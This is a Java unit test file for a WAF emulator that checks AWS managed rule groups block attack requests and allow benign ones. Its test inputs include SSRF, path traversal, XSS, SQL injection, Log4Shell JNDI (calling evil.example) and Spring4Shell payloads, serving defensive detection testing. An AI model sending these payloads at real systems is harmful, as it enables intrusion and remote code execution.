package dev.haneul.wafv2.engine;

import static dev.haneul.wafv2.engine.WafFixtures.json;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class ManagedRuleGroupsTest {

    static CompiledWebAcl withGroups(String... names) {
        StringBuilder rules = new StringBuilder();
        for (int i = 0; i < names.length; i++) {
            rules.append(i > 0 ? "," : "").append("{\"Name\":\"").append(names[i]).append("\",\"Priority\":").append(i)
                    .append(",\"Statement\":{\"ManagedRuleGroupStatement\":{\"VendorName\":\"AWS\",\"Name\":\"")
                    .append(names[i]).append("\"}},\"OverrideAction\":{\"None\":{}},\"VisibilityConfig\":{\"MetricName\":\"")
                    .append(names[i]).append("\"}}");
        }
        return WafFixtures.compile(WafFixtures.acl("Allow", rules.toString()));
    }

    private static final String UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120 Safari/537.36";

    private static WafDecision get(CompiledWebAcl acl, String target, String... extra) {
        String[] headers = new String[4 + extra.length];
        headers[0] = "Host";
        headers[1] = "127.10.0.5";
        headers[2] = "User-Agent";
        headers[3] = UA;
        System.arraycopy(extra, 0, headers, 4, extra.length);
        return acl.evaluate(WafRequest.get(target, "127.0.0.1", headers), System.currentTimeMillis());
    }

    private static WafDecision post(CompiledWebAcl acl, String target, String body) {
        return acl.evaluate(WafRequest.of("POST", target, "127.0.0.1", body.getBytes(StandardCharsets.UTF_8), "Host",
                "127.10.0.5", "User-Agent", UA, "Content-Type", "application/x-www-form-urlencoded"), 0);
    }

    @Test
    void describesTheGroupsAsAwsDoes() {
        ManagedRuleGroups aws = ManagedRuleGroups.aws();
        assertThat(aws.available()).extracting(ManagedRuleGroupInfo::name).containsExactlyInAnyOrder(
                "AWSManagedRulesCommonRuleSet", "AWSManagedRulesSQLiRuleSet", "AWSManagedRulesKnownBadInputsRuleSet",
                "AWSManagedRulesLinuxRuleSet", "AWSManagedRulesUnixRuleSet", "AWSManagedRulesAdminProtectionRuleSet",
                "AWSManagedRulesAmazonIpReputationList");
        ManagedRuleGroupInfo crs = aws.describe("AWS", "AWSManagedRulesCommonRuleSet").orElseThrow();
        assertThat(crs.capacity()).isEqualTo(700);
        assertThat(crs.labelNamespace()).isEqualTo("awswaf:managed:aws:core-rule-set:");
        assertThat(crs.rules()).extracting(ManagedRuleGroupInfo.RuleSummary::name).contains("NoUserAgent_HEADER",
                "SizeRestrictions_BODY", "EC2MetaDataSSRF_QUERYARGUMENTS", "CrossSiteScripting_BODY");
        assertThat(crs.availableLabels()).contains("awswaf:managed:aws:core-rule-set:NoUserAgent_Header");
        assertThat(aws.describe("AWS", "AWSManagedRulesSQLiRuleSet").orElseThrow().capacity()).isEqualTo(200);
        assertThat(aws.describe("AWS", "AWSManagedRulesAmazonIpReputationList").orElseThrow().rules())
                .contains(new ManagedRuleGroupInfo.RuleSummary("AWSManagedIPDDoSList", "COUNT"));
        assertThat(aws.describe("AWS", "NoSuchGroup")).isEmpty();
        // every group compiles, with its WCUs
        assertThat(withGroups("AWSManagedRulesCommonRuleSet", "AWSManagedRulesSQLiRuleSet",
                "AWSManagedRulesKnownBadInputsRuleSet").capacity()).isEqualTo(1100);
        assertThat(withGroups("AWSManagedRulesLinuxRuleSet", "AWSManagedRulesUnixRuleSet",
                "AWSManagedRulesAdminProtectionRuleSet", "AWSManagedRulesAmazonIpReputationList").capacity()).isEqualTo(425);
    }

    @Test
    void commonRuleSet() {
        CompiledWebAcl acl = withGroups("AWSManagedRulesCommonRuleSet");
        assertThat(get(acl, "/").action()).isEqualTo("ALLOW");
        WafDecision noUa = acl.evaluate(WafRequest.get("/", "127.0.0.1", "Host", "x"), 0);
        assertThat(noUa.action()).isEqualTo("BLOCK");
        assertThat(noUa.record().ruleNameWithinRuleGroup()).isEqualTo("NoUserAgent_HEADER");
        assertThat(noUa.labels()).contains("awswaf:managed:aws:core-rule-set:NoUserAgent_Header");
        assertThat(acl.evaluate(WafRequest.get("/", "127.0.0.1", "User-Agent", "sqlmap/1.7"), 0).action())
                .isEqualTo("BLOCK");
        assertThat(get(acl, "/?q=" + "a".repeat(2100)).action()).isEqualTo("BLOCK");
        assertThat(get(acl, "/fetch?url=http://169.254.169.254/latest/meta-data/").record().ruleNameWithinRuleGroup())
                .isEqualTo("EC2MetaDataSSRF_QUERYARGUMENTS");
        assertThat(get(acl, "/download?file=../../../etc/passwd").record().ruleNameWithinRuleGroup())
                .isEqualTo("GenericLFI_QUERYARGUMENTS");
        assertThat(get(acl, "/logs/app.log").record().ruleNameWithinRuleGroup()).isEqualTo("RestrictedExtensions_URIPATH");
        assertThat(get(acl, "/?page=http://10.0.0.1/shell.txt").record().ruleNameWithinRuleGroup())
                .isEqualTo("GenericRFI_QUERYARGUMENTS");
        assertThat(get(acl, "/?q=%3Cscript%3Ealert(1)%3C/script%3E").record().ruleNameWithinRuleGroup())
                .isEqualTo("CrossSiteScripting_QUERYARGUMENTS");
        assertThat(post(acl, "/comment", "text=<img src=x onerror=alert(1)>").record().ruleNameWithinRuleGroup())
                .isEqualTo("CrossSiteScripting_BODY");
        assertThat(post(acl, "/upload", "x".repeat(8000)).action()).isEqualTo("ALLOW");
        WafRequest big = new WafRequest("POST", "/upload", "", List.of("User-Agent", UA, "Content-Length", "20000"),
                "x".repeat(8192).getBytes(StandardCharsets.UTF_8), true, "127.0.0.1", "HTTP/1.1");
        assertThat(acl.evaluate(big, 0).record().ruleNameWithinRuleGroup()).isEqualTo("SizeRestrictions_BODY");
    }

    @Test
    void sqlDatabase() {
        CompiledWebAcl acl = withGroups("AWSManagedRulesSQLiRuleSet");
        assertThat(get(acl, "/?id=1%27%20OR%201=1--").record().ruleNameWithinRuleGroup()).isEqualTo("SQLi_QUERYARGUMENTS");
        assertThat(post(acl, "/login", "user=admin'--&pass=x").record().ruleNameWithinRuleGroup()).isEqualTo("SQLi_BODY");
        assertThat(get(acl, "/", "Cookie", "session=1' union select password from users--").record()
                .ruleNameWithinRuleGroup()).isEqualTo("SQLi_COOKIE");
        assertThat(get(acl, "/?name=O%27Brien&q=rock+%27n%27+roll").action()).isEqualTo("ALLOW");
        assertThat(post(acl, "/comment", "text=It%27s+a+great+day%2C+isn%27t+it%3F").action()).isEqualTo("ALLOW");
    }

    @Test
    void knownBadInputs() {
        CompiledWebAcl acl = withGroups("AWSManagedRulesKnownBadInputsRuleSet");
        assertThat(get(acl, "/", "X-Api-Version", "${jndi:ldap://evil.example/a}").record().ruleNameWithinRuleGroup())
                .isEqualTo("Log4JRCE_HEADER");
        assertThat(get(acl, "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%2Fa%7D").record().ruleNameWithinRuleGroup())
                .isEqualTo("Log4JRCE_QUERYSTRING");
        assertThat(get(acl, "/WEB-INF/web.xml").record().ruleNameWithinRuleGroup()).isEqualTo("ExploitablePaths_URIPATH");
        assertThat(acl.evaluate(WafRequest.of("PROPFIND", "/", "127.0.0.1", new byte[0], "Host", "127.10.0.5"), 0)
                .record().ruleNameWithinRuleGroup()).isEqualTo("PROPFIND_METHOD");
        assertThat(acl.evaluate(WafRequest.get("/", "127.0.0.1", "Host", "localhost:8080"), 0).action())
                .isEqualTo("BLOCK");
        assertThat(post(acl, "/api", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")
                .record().ruleNameWithinRuleGroup()).isEqualTo("JavaDeserializationRCE_BODY");
        assertThat(get(acl, "/board/posts?page=2").action()).isEqualTo("ALLOW");
    }

    @Test
    void linuxUnixAdminAndIpReputation() {
        assertThat(get(withGroups("AWSManagedRulesLinuxRuleSet"), "/?f=..%2F..%2Fetc%2Fshadow").record()
                .ruleNameWithinRuleGroup()).isEqualTo("LFI_QUERYSTRING");
        assertThat(get(withGroups("AWSManagedRulesLinuxRuleSet"), "/static/../../proc/self/environ").action())
                .isEqualTo("BLOCK");
        assertThat(get(withGroups("AWSManagedRulesUnixRuleSet"), "/?cmd=echo%20$HOME").record().ruleNameWithinRuleGroup())
                .isEqualTo("UNIXShellCommandsVariables_QUERYARGUMENTS");
        assertThat(get(withGroups("AWSManagedRulesUnixRuleSet"), "/?q=rock%20%26%20roll").action()).isEqualTo("ALLOW");
        assertThat(get(withGroups("AWSManagedRulesAdminProtectionRuleSet"), "/admin/users").action()).isEqualTo("BLOCK");
        assertThat(get(withGroups("AWSManagedRulesAdminProtectionRuleSet"), "/administration-guide.html").action())
                .isEqualTo("ALLOW");
        CompiledWebAcl ip = withGroups("AWSManagedRulesAmazonIpReputationList");
        assertThat(ip.evaluate(WafRequest.get("/", "127.66.0.9"), 0).action()).isEqualTo("BLOCK");
        WafDecision ddos = ip.evaluate(WafRequest.get("/", "127.68.0.9"), 0);
        assertThat(ddos.action()).isEqualTo("ALLOW");
        assertThat(ddos.labels()).containsExactly("awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList");
        assertThat(ip.evaluate(WafRequest.get("/", "127.0.0.1"), 0).action()).isEqualTo("ALLOW");
    }

    @Test
    void excludedRulesAndOverridesOnManagedGroups() {
        String rule = "{\"Name\":\"crs\",\"Priority\":0,\"Statement\":{\"ManagedRuleGroupStatement\":{\"VendorName\":"
                + "\"AWS\",\"Name\":\"AWSManagedRulesCommonRuleSet\",\"Version\":\"Version_1.0\",\"ExcludedRules\":"
                + "[{\"Name\":\"NoUserAgent_HEADER\"},{\"Name\":\"NotARealRule\"}],\"RuleActionOverrides\":[{\"Name\":"
                + "\"UserAgent_BadBots_HEADER\",\"ActionToUse\":{\"Challenge\":{}}}]}},\"OverrideAction\":{\"None\":{}},"
                + "\"VisibilityConfig\":{\"MetricName\":\"crs\"}}";
        CompiledWebAcl acl = WafFixtures.compile(json(WafFixtures.acl("Allow", rule).toString()));
        WafDecision noUa = acl.evaluate(WafRequest.get("/", "127.0.0.1"), 0);
        assertThat(noUa.action()).isEqualTo("ALLOW");
        assertThat(noUa.labels()).contains("awswaf:managed:aws:core-rule-set:NoUserAgent_Header");
        assertThat(acl.evaluate(WafRequest.get("/", "127.0.0.1", "User-Agent", "nikto"), 0).action()).isEqualTo("CHALLENGE");
    }
}
